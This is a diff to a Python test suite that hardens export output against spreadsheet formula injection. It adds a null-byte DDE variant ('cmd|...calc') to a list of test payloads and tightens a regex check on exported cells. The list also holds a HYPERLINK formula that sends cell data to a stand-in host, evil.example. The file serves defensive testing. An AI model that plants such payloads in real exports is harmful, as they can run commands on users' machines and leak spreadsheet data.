@@ -481,6 +481,7 @@ FORMULAS = [f"{start}1+1" for start in "=+-@\t\r\n＝＋－＠"] + [
     '"=1+1',
     "=cmd|' /C calc'!A0",
     "cmd|' /C calc'!A0",
+    "cmd|\0'/C calc'!A0",
     "\x00=1+1",
     '=HYPERLINK("https://evil.example/?"&A1,"click")',
 ]
@@ -938,4 +939,4 @@ def test_whatever_stands_in_whatever_field_both_outputs_are_sound_and_agree(data
     assert (row["error"] is None) == row["parse_ok"] == (done.found.parsed == 1)
     for key, value in row.items():
         assert agree(cells[key], value)
-        assert not isinstance(value, str) or not re.match(r'[\t\r\n]|[ "]*[=+\-@＝＋－＠]', cells[key])
+        assert not isinstance(value, str) or not re.match(r"""[\t\r\n]|[ "]*[=+\-@＝＋－＠]|\w+\|'.*'!""", cells[key])
